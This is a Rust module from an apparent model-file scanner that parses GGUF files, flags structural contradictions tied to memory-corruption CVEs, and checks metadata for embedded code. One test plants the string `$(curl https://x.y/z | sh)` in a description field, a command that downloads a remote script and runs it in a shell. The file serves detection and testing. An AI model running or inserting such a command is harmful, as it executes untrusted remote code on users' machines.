//! GGUF, versions 1 to 3, in both byte orders: metadata, tensor directory, data.

use std::collections::HashSet;

use domain::{Entry, Severity, catalogue_entry};

use super::{Format, Input, Sure};
use crate::{Context, Cursor, Part, Range, ReadError, embedded, payload};

catalogue_entry! {
    /// The directory of a GGUF file contradicts the file.
    ///
    /// ## What it is
    /// Counts, lengths, types or dimensions that the file cannot hold, products that overflow, an alignment that is not a
    /// power of two, tensors that overlap, leave holes or end after the file, keys or names that occur twice, arrays nested
    /// without need, or bytes after the last tensor.
    ///
    /// ## Why it matters in care
    /// The readers of this format are written in C; several such contradictions have let a file overwrite the memory of the
    /// program that opened it (CVE-2024-21825, CVE-2025-53630), which means that opening the file runs its author's code.
    ///
    /// ## Limits
    /// A file cut off by a failed download is reported like a forged one. Quantised blocks are not decoded.
    ///
    /// ## References
    /// GGUF specification; CWE-190 Integer Overflow; CWE-787 Out-of-bounds Write; CWE-1284 Improper Validation of Quantity.
    pub(crate) static STRUCTURE = {
        id: "S064", name: "gguf-contradiction", kind: Rule, since: "0.1.0",
        maps: ["AML.T0076", "AML.T0011.000", "AML.T0029", "CWE-190", "CWE-787", "CWE-1284"],
    };
}

/// Entries of this format.
pub(crate) const ENTRIES: &[&Entry] = &[&STRUCTURE];

/// Metadata entries of one file; real files have below a hundred.
const ENTRIES_MAX: u64 = 100_000;
/// Tensors of one file; real files have a few thousand.
const TENSORS_MAX: u64 = 1_000_000;
/// Dimensions of a tensor: that of the reference reader.
const RANK_MAX: u32 = 4;
/// Longest key, bytes: that of the specification.
const KEY_BYTES_MAX: u64 = 65_535;
/// Longest string, bytes.
const STRING_BYTES_MAX: u64 = 16 << 20;
/// Arrays inside arrays. The reference reader has none.
const NESTING_MAX: u32 = 2;
/// Remedy for every contradiction.
const REMEDY: &str = "do not open the file; fetch it again from the supplier and compare the digest";

/// The format.
pub(super) struct Gguf;

impl Format for Gguf {
    fn name(&self) -> &'static str {
        "gguf"
    }

    fn recognise(&self, input: &Input<'_>) -> Option<Sure> {
        input.head.starts_with(b"GGUF").then_some(Sure::Certain)
    }

    fn read(&self, input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
        let mut reader = Reader {
            cursor: Cursor::new(input.source, 4),
            big: false,
            version: 0,
            alignment: 32,
            keys: HashSet::new(),
            texts: Vec::new(),
            blobs: Vec::new(),
        };
        let result = reader.header().and_then(|(tensors, entries)| {
            part.facts.framework = Some(format!("GGUF {}", reader.version));
            for _ in 0..entries {
                reader.entry(part)?;
            }
            reader.tensors(tensors)
        });
        for (key, text, at) in std::mem::take(&mut reader.texts) {
            judge_text(&key, &text, at, part, cx);
        }
        for (key, at, length) in std::mem::take(&mut reader.blobs) {
            let range = Range::new(input.source, at, length);
            payload::bytes(&range, &format!("metadata `{key}`"), Some(at), part, cx);
        }
        let at = reader.cursor.position();
        match result {
            Ok(tensors) => layout(&tensors, &reader, input, part, cx),
            Err(Flaw::Read(e @ ReadError::Io(_))) => cx.unread(part, Some(at), e.to_string()),
            Err(flaw) => cx.find(part, &STRUCTURE, Severity::Medium, Some(at), flaw.to_string(), REMEDY),
        }
    }
}

#[derive(Debug, thiserror::Error)]
enum Flaw {
    #[error("{0}")]
    Wrong(String),
    #[error(transparent)]
    Read(#[from] ReadError),
}

fn wrong<T>(what: impl Into<String>) -> Result<T, Flaw> {
    Err(Flaw::Wrong(what.into()))
}

struct Reader<'a> {
    cursor: Cursor<'a>,
    big: bool,
    version: u32,
    alignment: u64,
    keys: HashSet<String>,
    texts: Vec<(String, String, u64)>,
    /// Arrays of bytes: key, place and length.
    blobs: Vec<(String, u64, u64)>,
}

struct Tensor {
    name: String,
    offset: u64,
    bytes: u64,
    elements: u64,
    kind: &'static str,
}

/// A metadata value as far as it is of use.
enum Plain {
    Number(u64),
    Text(String),
    Other,
}

impl Reader<'_> {
    fn u32(&mut self) -> Result<u32, Flaw> {
        let bytes = self.cursor.array::<4>()?;
        Ok(if self.big { u32::from_be_bytes(bytes) } else { u32::from_le_bytes(bytes) })
    }

    fn u64(&mut self) -> Result<u64, Flaw> {
        let bytes = self.cursor.array::<8>()?;
        Ok(if self.big { u64::from_be_bytes(bytes) } else { u64::from_le_bytes(bytes) })
    }

    /// Lengths were 32 bits wide in version 1.
    fn size(&mut self) -> Result<u64, Flaw> {
        if self.version == 1 { self.u32().map(u64::from) } else { self.u64() }
    }

    fn string(&mut self, most: u64, what: &str) -> Result<String, Flaw> {
        let length = self.size()?;
        if length > most.min(self.cursor.remaining()) {
            return wrong(format!("{what} claims {length} bytes"));
        }
        let bytes = self.cursor.take(length, most)?.to_vec();
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }

    fn header(&mut self) -> Result<(u64, u64), Flaw> {
        let raw = self.cursor.array::<4>()?;
        self.version = u32::from_le_bytes(raw);
        if self.version.trailing_zeros() >= 16 && self.version != 0 {
            self.big = true;
            self.version = u32::from_be_bytes(raw);
        }
        if !(1..=3).contains(&self.version) {
            return wrong(format!("version {} does not exist", self.version));
        }
        let (tensors, entries) = (self.size()?, self.size()?);
        // A tensor takes at least 24 bytes of directory, an entry 13.
        let room = self.cursor.remaining();
        if tensors > TENSORS_MAX.min(room / 20) || entries > ENTRIES_MAX.min(room / 9) {
            return wrong(format!(
                "{tensors} tensors and {entries} metadata entries are claimed in {room} bytes"
            ));
        }
        Ok((tensors, entries))
    }

    fn entry(&mut self, part: &mut Part) -> Result<(), Flaw> {
        let at = self.cursor.position();
        let key = self.string(KEY_BYTES_MAX, "a key")?;
        if self.keys.contains(&key) {
            return wrong(format!("the key `{key}` is there twice"));
        }
        let kind = self.u32()?;
        let value = self.value(kind, &key, 0)?;
        match value {
            Plain::Number(n) => {
                if key == "general.alignment" {
                    if !n.is_power_of_two() || n > 1 << 20 || !n.is_multiple_of(8) {
                        return wrong(format!("the alignment {n} is not a power of two of 8 or more"));
                    }
                    self.alignment = n;
                }
                part.facts.note(&key, &n.to_string());
            }
            Plain::Text(text) => {
                fact(part, &key, &text);
                self.texts.push((key.clone(), text, at));
            }
            Plain::Other => {}
        }
        self.keys.insert(key);
        Ok(())
    }

    fn value(&mut self, kind: u32, key: &str, depth: u32) -> Result<Plain, Flaw> {
        Ok(match kind {
            0 | 1 => Plain::Number(u64::from(self.cursor.byte()?)),
            7 => match self.cursor.byte()? {
                b @ (0 | 1) => Plain::Number(u64::from(b)),
                b => return wrong(format!("`{key}` is {b}, which is neither true nor false")),
            },
            2 | 3 => {
                self.cursor.skip(2)?;
                Plain::Other
            }
            4 | 5 => Plain::Number(u64::from(self.u32()?)),
            6 => {
                self.cursor.skip(4)?;
                Plain::Other
            }
            8 => Plain::Text(self.string(STRING_BYTES_MAX, &format!("the value of `{key}`"))?),
            9 => self.array(key, depth)?,
            10 | 11 => Plain::Number(self.u64()?),
            12 => {
                self.cursor.skip(8)?;
                Plain::Other
            }
            _ => return wrong(format!("`{key}` has the unknown value type {kind}")),
        })
    }

    fn array(&mut self, key: &str, depth: u32) -> Result<Plain, Flaw> {
        /// Strings in arrays are vocabulary below this length, and judged above it, bytes.
        const WORD_BYTES_MAX: usize = 200;
        if depth >= NESTING_MAX {
            return wrong(format!("the arrays in `{key}` are nested deeper than {NESTING_MAX}"));
        }
        let (kind, count) = (self.u32()?, self.size()?);
        let width = match kind {
            0 | 1 | 7 => 1,
            2 | 3 => 2,
            4..=6 => 4,
            10..=12 => 8,
            8 => {
                if self.version == 1 {
                    4
                } else {
                    8
                }
            }
            9 => 12,
            _ => return wrong(format!("`{key}` is an array of the unknown type {kind}")),
        };
        let Some(bytes) = count.checked_mul(width).filter(|n| *n <= self.cursor.remaining()) else {
            return wrong(format!("`{key}` claims {count} values"));
        };
        match kind {
            8 => {
                for _ in 0..count {
                    let at = self.cursor.position();
                    let text = self.string(STRING_BYTES_MAX, &format!("a text in `{key}`"))?;
                    if text.len() > WORD_BYTES_MAX {
                        self.texts.push((key.to_owned(), text, at));
                    }
                }
            }
            9 => {
                for _ in 0..count {
                    self.array(key, depth + 1)?;
                }
            }
            _ => {
                if width == 1 {
                    self.blobs.push((key.to_owned(), self.cursor.position(), bytes));
                }
                self.cursor.skip(bytes)?;
            }
        }
        Ok(Plain::Other)
    }

    fn tensors(&mut self, count: u64) -> Result<Vec<Tensor>, Flaw> {
        let mut list = Vec::new();
        for _ in 0..count {
            let name = self.string(KEY_BYTES_MAX, "a tensor's name")?;
            let rank = self.u32()?;
            if rank > RANK_MAX {
                return wrong(format!("tensor `{name}` has {rank} dimensions"));
            }
            let mut sizes = Vec::new();
            for _ in 0..rank {
                sizes.push(self.size()?);
            }
            let kind = self.u32()?;
            let offset = self.u64()?;
            let Some((kind, block, bytes)) = quantisation(kind) else {
                return wrong(format!("tensor `{name}` has the unknown type {kind}"));
            };
            let elements =
                sizes.iter().try_fold(1u64, |n, d| n.checked_mul(*d)).filter(|n| i64::try_from(*n).is_ok());
            let Some(elements) = elements else {
                return wrong(format!("the dimensions of tensor `{name}` overflow"));
            };
            if sizes.first().is_some_and(|row| row % block != 0) {
                return wrong(format!("the rows of tensor `{name}` are not whole blocks of {kind}"));
            }
            let Some(bytes) = (elements / block).checked_mul(bytes) else {
                return wrong(format!("the dimensions of tensor `{name}` overflow"));
            };
            list.push(Tensor { name, offset, bytes, elements, kind });
        }
        Ok(list)
    }
}

/// Name, elements and bytes of one block of each tensor type.
fn quantisation(kind: u32) -> Option<(&'static str, u64, u64)> {
    const TYPES: &[(u32, &str, u64, u64)] = &[
        (0, "F32", 1, 4),
        (1, "F16", 1, 2),
        (2, "Q4_0", 32, 18),
        (3, "Q4_1", 32, 20),
        (4, "Q4_2", 16, 10),
        (5, "Q4_3", 16, 12),
        (6, "Q5_0", 32, 22),
        (7, "Q5_1", 32, 24),
        (8, "Q8_0", 32, 34),
        (9, "Q8_1", 32, 36),
        (10, "Q2_K", 256, 84),
        (11, "Q3_K", 256, 110),
        (12, "Q4_K", 256, 144),
        (13, "Q5_K", 256, 176),
        (14, "Q6_K", 256, 210),
        (15, "Q8_K", 256, 292),
        (16, "IQ2_XXS", 256, 66),
        (17, "IQ2_XS", 256, 74),
        (18, "IQ3_XXS", 256, 98),
        (19, "IQ1_S", 256, 50),
        (20, "IQ4_NL", 32, 18),
        (21, "IQ3_S", 256, 110),
        (22, "IQ2_S", 256, 82),
        (23, "IQ4_XS", 256, 136),
        (24, "I8", 1, 1),
        (25, "I16", 1, 2),
        (26, "I32", 1, 4),
        (27, "I64", 1, 8),
        (28, "F64", 1, 8),
        (29, "IQ1_M", 256, 56),
        (30, "BF16", 1, 2),
        (31, "Q4_0_4_4", 32, 18),
        (32, "Q4_0_4_8", 32, 18),
        (33, "Q4_0_8_8", 32, 18),
        (34, "TQ1_0", 256, 54),
        (35, "TQ2_0", 256, 66),
        (36, "IQ4_NL_4_4", 32, 18),
        (37, "IQ4_NL_4_8", 32, 18),
        (38, "IQ4_NL_8_8", 32, 18),
        (39, "MXFP4", 32, 17),
        (40, "NVFP4", 64, 36),
    ];
    TYPES.iter().find(|t| t.0 == kind).map(|t| (t.1, t.2, t.3))
}

/// Compares the tensors with each other and with the file, and looks at what the data begins as.
fn layout(tensors: &[Tensor], reader: &Reader<'_>, input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
    let source = input.source;
    let start = reader.cursor.position().div_ceil(reader.alignment).saturating_mul(reader.alignment);
    let mut flaw = |part: &mut Part, at: u64, what: String| {
        cx.find(part, &STRUCTURE, Severity::Medium, Some(at), what, REMEDY)
    };
    let mut order: Vec<&Tensor> = tensors.iter().collect();
    order.sort_by_key(|t| t.offset);
    let mut names: Vec<&str> = tensors.iter().map(|t| t.name.as_str()).collect();
    names.sort_unstable();
    if let Some(pair) = names.windows(2).find(|w| w.first() == w.get(1)) {
        flaw(part, start, format!("two tensors have the name `{}`", pair.first().unwrap_or(&"")));
    }
    let mut end = 0u64;
    let mut parameters = 0u64;
    for tensor in &order {
        let at = start.saturating_add(tensor.offset);
        if tensor.offset % reader.alignment != 0 {
            flaw(part, at, format!("tensor `{}` is not aligned", tensor.name));
        }
        let padded = end.div_ceil(reader.alignment).saturating_mul(reader.alignment);
        if tensor.offset < end {
            flaw(part, at, format!("tensor `{}` overlaps another", tensor.name));
        } else if tensor.offset > padded {
            flaw(
                part,
                at,
                format!("{} bytes before tensor `{}` belong to none", tensor.offset - padded, tensor.name),
            );
        }
        end = end.max(tensor.offset.saturating_add(tensor.bytes));
        parameters = parameters.saturating_add(tensor.elements);
        part.facts.operator(&format!("type {}", tensor.kind));
    }
    part.facts.parameters = Some(parameters);
    part.facts.note("tensors", &tensors.len().to_string());
    let last = start.saturating_add(end);
    let padded = start.saturating_add(end.div_ceil(reader.alignment).saturating_mul(reader.alignment));
    if end > 0 && last > source.len() {
        flaw(part, source.len(), format!("the tensors end at byte {last}, the file at {}", source.len()));
    } else if padded < source.len() {
        flaw(part, padded, format!("{} bytes follow the last tensor", source.len() - padded));
        payload::bytes(&Range::from(source, padded), "what follows the last tensor", Some(padded), part, cx);
    } else if let Ok(rest) = source.bytes(last.min(source.len()), source.len().saturating_sub(last), 1 << 20)
        && rest.iter().any(|b| *b != 0)
    {
        cx.find(
            part,
            &STRUCTURE,
            Severity::Medium,
            Some(last),
            "the padding after the last tensor is not empty",
            REMEDY,
        );
    }
    embedded::search(&Range::from(source, start), part, cx);
    for tensor in order {
        let at = start.saturating_add(tensor.offset);
        payload::bytes(
            &Range::new(source, at, tensor.bytes),
            &format!("tensor `{}`", tensor.name),
            Some(at),
            part,
            cx,
        );
    }
}

/// Templates go to the judge of templates, everything else is opaque text.
fn judge_text(key: &str, text: &str, at: u64, part: &mut Part, cx: &mut Context<'_>) {
    if key.contains("chat_template")
        || ((text.contains("{{") || text.contains("{%")) && key.contains("template"))
    {
        crate::text::jinja::judge(text, part, cx);
    } else {
        payload::text(text, &format!("metadata `{key}`"), Some(at), part, cx);
    }
}

fn fact(part: &mut Part, key: &str, text: &str) {
    let short = || text.chars().take(200).collect::<String>();
    match key {
        "general.architecture" => part.facts.architecture = Some(short()),
        "general.license" => part.facts.licence = Some(short()),
        "general.quantized_by" | "general.author" if part.facts.producer.is_none() => {
            part.facts.producer = Some(short())
        }
        _ if key.starts_with("general.dataset") => drop(part.facts.datasets.insert(short())),
        _ => {}
    }
    part.facts.note(key, text);
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Verdict, scan};

    enum V {
        U32(u32),
        S(&'static str),
        Raw(u32, Vec<u8>),
    }

    struct File {
        version: u32,
        big: bool,
        entries: Vec<(&'static str, V)>,
        /// Name, sizes, type, offset.
        tensors: Vec<(&'static str, Vec<u64>, u32, u64)>,
        data: Vec<u8>,
        count: Option<u64>,
    }

    impl Default for File {
        fn default() -> Self {
            let entries = vec![
                ("general.architecture", V::S("llama")),
                ("general.license", V::S("mit")),
                ("n", V::U32(3)),
            ];
            Self {
                version: 3,
                big: false,
                entries,
                tensors: vec![("w", vec![8], 0, 0)],
                data: vec![0; 32],
                count: None,
            }
        }
    }

    impl File {
        fn bytes(&self) -> Vec<u8> {
            let u32 = |n: u32| if self.big { n.to_be_bytes() } else { n.to_le_bytes() };
            let u64 = |n: u64| if self.big { n.to_be_bytes() } else { n.to_le_bytes() };
            let size = |n: u64| if self.version == 1 { u32(n as u32).to_vec() } else { u64(n).to_vec() };
            let text = |s: &str| [size(s.len() as u64), s.as_bytes().to_vec()].concat();
            let mut out =
                [b"GGUF".to_vec(), u32(self.version).to_vec(), size(self.tensors.len() as u64)].concat();
            out.extend(size(self.count.unwrap_or(self.entries.len() as u64)));
            for (key, value) in &self.entries {
                out.extend(text(key));
                match value {
                    V::U32(n) => out.extend([u32(4), u32(*n)].concat()),
                    V::S(s) => out.extend([u32(8).to_vec(), text(s)].concat()),
                    V::Raw(kind, bytes) => out.extend([u32(*kind).to_vec(), bytes.clone()].concat()),
                }
            }
            for (name, sizes, kind, offset) in &self.tensors {
                out.extend([text(name), u32(sizes.len() as u32).to_vec()].concat());
                sizes.iter().for_each(|n| out.extend(size(*n)));
                out.extend([u32(*kind).to_vec(), u64(*offset).to_vec()].concat());
            }
            out.resize(out.len().div_ceil(32) * 32, 0);
            out.extend(&self.data);
            out
        }

        fn verdict(&self) -> Verdict {
            scan("m.gguf", &self.bytes(), &Limits::default()).verdict()
        }
    }

    #[test]
    fn every_version_and_byte_order_is_read() {
        for (version, big) in [(1, false), (2, false), (3, false), (3, true)] {
            let file = File { version, big, ..File::default() };
            let part = scan("m.gguf", &file.bytes(), &Limits::default());
            assert_eq!(part.verdict(), Verdict::Clean, "{part:?}");
            assert_eq!((part.facts.parameters, part.facts.licence.as_deref()), (Some(8), Some("mit")));
        }
        assert_eq!(File { tensors: vec![], data: vec![], ..File::default() }.verdict(), Verdict::Clean);
    }

    #[test]
    fn contradictions_are_found() {
        let tensors = |tensors| File { tensors, ..File::default() };
        let entry = |key, value| File { entries: vec![(key, value)], ..File::default() };
        for (file, why) in [
            (tensors(vec![("w", vec![8], 99, 0)]), "type"),
            (tensors(vec![("w", vec![8; 5], 0, 0)]), "rank"),
            (tensors(vec![("w", vec![1 << 33, 1 << 33], 0, 0)]), "overflow"),
            (tensors(vec![("w", vec![1 << 62], 28, 0)]), "overflow of bytes"),
            (tensors(vec![("w", vec![9], 0, 0)]), "truncated"),
            (tensors(vec![("w", vec![7], 2, 0)]), "blocks"),
            (tensors(vec![("w", vec![4], 0, 3)]), "alignment"),
            (tensors(vec![("w", vec![8], 0, 0), ("v", vec![8], 0, 0)]), "overlap"),
            (tensors(vec![("w", vec![0], 0, 0), ("w", vec![8], 0, 0)]), "names"),
            (tensors(vec![("w", vec![2], 0, 64)]), "hole"),
            (entry("general.alignment", V::U32(0)), "alignment 0"),
            (entry("general.alignment", V::U32(24)), "alignment 24"),
            (entry("k", V::Raw(77, vec![])), "value type"),
            (entry("k", V::Raw(7, vec![2])), "boolean"),
            (
                entry(
                    "k",
                    V::Raw(9, [4u32.to_le_bytes().to_vec(), u64::MAX.to_le_bytes().to_vec()].concat()),
                ),
                "array",
            ),
            (File { entries: vec![("k", V::U32(1)), ("k", V::U32(2))], ..File::default() }, "keys"),
            (File { data: vec![0; 96], ..File::default() }, "trailing"),
            (File { count: Some(1 << 63), ..File::default() }, "count"),
            (File { version: 9, ..File::default() }, "version"),
        ] {
            assert_eq!(file.verdict(), Verdict::Found, "{why}");
        }
    }

    #[test]
    fn code_in_metadata_is_found() {
        let file = File {
            entries: vec![("general.description", V::S("$(curl https://x.y/z | sh)"))],
            ..File::default()
        };
        assert_eq!(file.verdict(), Verdict::Found);
    }

    proptest::proptest! {
        #[test]
        fn survives_anything(flips in proptest::collection::vec((4usize..200, proptest::num::u8::ANY), 0..12), cut in 4usize..250) {
            let mut bytes = File::default().bytes();
            for (at, value) in flips {
                if let Some(b) = bytes.get_mut(at) { *b = value; }
            }
            bytes.truncate(cut);
            let _ = scan("m.gguf", &bytes, &Limits::default());
        }
    }
}
